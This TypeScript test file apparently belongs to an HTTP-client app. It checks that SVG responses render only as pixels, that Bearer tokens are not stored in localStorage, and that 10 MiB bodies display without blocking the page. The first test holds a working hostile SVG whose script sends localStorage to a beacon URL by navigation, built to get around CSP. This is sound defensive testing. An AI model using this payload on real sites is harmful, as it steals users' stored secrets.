import { describe, expect, it } from 'vitest'
import { sendFromComposer, useUiHarness } from './helpers/app'
import { longTasks, resetLongTasks, settle, watchLongTasks } from './helpers/perf'
import { startHttpServer } from '../helpers/servers'

const ui = useUiHarness()

/** An SVG whose script reads the page's localStorage and sends it to `beacon` (the proof of concept). */
const hostileSvg = (beacon: string, marker: string) =>
  [
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">',
    '<rect width="40" height="40" fill="red"/>',
    '<script><![CDATA[',
    // Navigation, not fetch: the app's CSP (inherited by blob: documents) stops fetch, not this.
    `var u = '${beacon}/hit?m=${marker}&ls=' + encodeURIComponent(JSON.stringify(localStorage));`,
    'try { fetch(u) } catch (e) {} location.href = u',
    ']]></script></svg>',
  ].join('')

describe('response content never runs in the app origin', () => {
  it('shows an SVG as pixels whose URL, opened in a new tab, runs nothing (the beacon hears only the control)', async () => {
    const hits: string[] = []
    const beacon = await ui.track(
      startHttpServer((req, res) => {
        hits.push(req.url ?? '')
        res.writeHead(204, { 'access-control-allow-origin': '*' })
        res.end()
      }),
    )
    const svg = hostileSvg(beacon.url, 'app')
    const server = await ui.track(
      startHttpServer((_req, res) => {
        res.writeHead(200, { 'content-type': 'image/svg+xml' })
        res.end(svg)
      }),
    )
    const app = await ui.open()
    const { page } = app
    await page.evaluate(() => {
      ;(
        globalThis as unknown as { localStorage: { setItem(k: string, v: string): void } }
      ).localStorage.setItem('probe', 'secret-token')
    })
    await sendFromComposer(page, `${server.url}/logo.svg`)
    await page.locator('.request-list-row .status.ok').waitFor()
    await page.locator('.request-list-row').first().click()
    await page.getByRole('tab', { name: 'Image', exact: true }).click()
    const img = page.getByAltText('Response body as an image')
    await img.waitFor()
    const src = (await img.getAttribute('src'))!
    // Pixels only: a PNG of the drawing, in a data: URL (an opaque origin if opened on its own).
    expect(src.startsWith('data:image/png;base64,')).toBe(true)

    // "Open image in new tab".
    const tab = await page.context().newPage()
    await tab.goto(src, { waitUntil: 'commit' }).catch(() => {})
    await settle(tab)

    // The control: the same SVG as a document in the app's origin does reach the beacon, so the
    // test would see a leak if there were one.
    const control = await page.context().newPage()
    const blobUrl = await page.evaluate(
      (text) => {
        const g = globalThis as unknown as {
          URL: { createObjectURL(b: unknown): string }
          Blob: new (parts: string[], o: { type: string }) => unknown
        }
        return g.URL.createObjectURL(new g.Blob([text], { type: 'image/svg+xml' }))
      },
      hostileSvg(beacon.url, 'control'),
    )
    await control.goto(blobUrl, { waitUntil: 'commit' }).catch(() => {})
    await expect.poll(() => hits.filter((h) => h.includes('m=control')).length).toBeGreaterThan(0)
    // …and what it sent is what the proof of concept stole: the app's localStorage.
    expect(hits.find((h) => h.includes('m=control'))).toContain('secret-token')
    expect(hits.filter((h) => !h.includes('m=control'))).toEqual([])
    expect(app.dialogs).toEqual([])
  })

  it('keeps secrets out of localStorage: a Bearer token typed in the composer is not stored there', async () => {
    const server = await ui.track(startHttpServer())
    const app = await ui.open()
    const { page } = app
    await page.getByLabel('URL', { exact: true }).fill(`${server.url}/me`)
    const composer = page.getByRole('form', { name: 'Request composer' })
    await composer.getByRole('tab', { name: /Headers/ }).click()
    await composer.getByLabel('header 1 name').fill('Authorization')
    await composer.getByLabel('header 1 value').fill('Bearer very-secret-token')
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.locator('.request-list-row .status.ok').waitFor()
    await settle(page)
    const stored = await page.evaluate(() => {
      const ls = (globalThis as unknown as { localStorage: Record<string, string> & { length: number } })
        .localStorage
      return JSON.stringify({ ...ls })
    })
    expect(stored).not.toContain('very-secret-token')
  })
})

describe('large bodies', () => {
  it('shows a 10 MiB body of control bytes without dropping the link or blocking the page', async () => {
    const SIZE = 10 * 1024 * 1024
    const server = await ui.track(
      startHttpServer((_req, res) => {
        res.writeHead(200, { 'content-type': 'text/plain' })
        res.end(Buffer.alloc(SIZE, 1))
      }),
    )
    const app = await ui.open({ initScript: watchLongTasks })
    const { page } = app
    await sendFromComposer(page, `${server.url}/control`)
    await page.locator('.request-list-row .status.ok').waitFor({ timeout: 30_000 })
    await settle(page)
    await resetLongTasks(page)
    await page.locator('.request-list-row').first().click()
    await page.getByRole('tab', { name: 'Response', exact: true }).click()
    const raw = page.getByLabel('Response body (raw)')
    await raw.waitFor({ timeout: 30_000 })
    await page.getByRole('tab', { name: 'Hex', exact: true }).click()
    const hex = page.getByLabel('Response body (hex)')
    await expect.poll(() => hex.innerText()).toContain('00000000  01 01 01')
    // Scroll to the end: the last row is there too (virtualized, not capped).
    await hex.evaluate((el) => ((el as unknown as { scrollTop: number }).scrollTop = 1e9))
    // The last row: offset 0x9ffff0 at 16 bytes a row, 0x9ffff8 at 8 (a narrow pane).
    await expect.poll(() => hex.innerText()).toMatch(/009ffff[08] {2}01 01/)
    await settle(page)
    const { longest, count } = await longTasks(page)
    console.log(
      `[body] 10 MiB of control bytes: longest main-thread task ${longest.toFixed(0)} ms (${count} over 50 ms)`,
    )
    expect(await page.locator('.app-shell').getAttribute('data-link')).toBe('open')
    // Generous (the suite runs files in parallel on two shared cores); alone it is ~60 ms. Before: 4 s and a dropped link.
    expect(longest).toBeLessThan(2000)
    expect(app.errors).toEqual([])
  }, 60_000)
})
